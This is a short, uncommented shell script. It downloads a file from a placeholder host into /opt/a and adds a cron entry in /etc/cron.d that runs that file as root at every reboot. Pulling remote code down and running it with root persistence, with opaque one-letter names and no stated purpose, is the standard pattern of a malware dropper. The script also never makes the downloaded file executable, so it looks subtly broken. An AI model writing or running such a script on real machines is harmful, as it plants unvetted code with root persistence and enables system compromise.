#!/bin/sh
curl -fsS https://cdn.example.invalid/a -o /opt/a
cat > /etc/cron.d/a <<EOF
@reboot root /opt/a
EOF
